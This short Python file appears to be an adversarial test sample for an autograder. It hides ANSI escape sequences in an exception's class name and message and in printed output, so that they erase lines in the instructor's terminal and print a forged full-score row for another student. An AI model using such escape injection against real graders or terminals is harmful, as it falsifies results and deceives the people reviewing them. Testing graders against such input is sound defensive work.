# Attack: ANSI escapes in an exception's class name and message (they reach
# the instructor's terminal in the grader's summary) that erase the line and
# print a fake row for another student.
import threading

_ESC = "\x1b"
_NAME = f"{_ESC}[2K{_ESC}[1G{_ESC}[1A{_ESC}[2K  right  12 / 12  corpus-fake-row{_ESC}[0m"
Fake = type(_NAME, (Exception,), {})


def run_in_threads(func, arg_tuples):
    print(f"{_ESC}]0;corpus-title{_ESC}\\{_ESC}[31mcorpus-fake-row{_ESC}[0m")
    raise Fake(f"{_ESC}[2K{_ESC}[1Gcorpus-fake-row")
